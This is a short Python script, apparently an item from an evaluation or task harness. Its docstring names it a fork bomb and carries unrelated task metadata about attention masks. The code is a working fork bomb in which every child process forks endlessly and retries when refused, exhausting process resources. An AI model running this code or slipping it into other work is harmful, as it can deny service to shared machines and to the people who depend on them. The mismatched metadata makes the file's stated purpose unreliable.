"""A fork bomb: every child forks again forever. The sandbox's process limit stops it; the machine survives.

target: mask_to_bias
zero: mask_to_bias
full: causal_mask, padding_mask, combine_masks
log: other processes were still running
"""
import os
import time

started = 0
try:
    while True:
        if os.fork() == 0:  # a child never returns to the kernel: it forks on, forever
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        started += 1
except OSError as exc:
    print(f"fork refused after {started} children: {exc}")
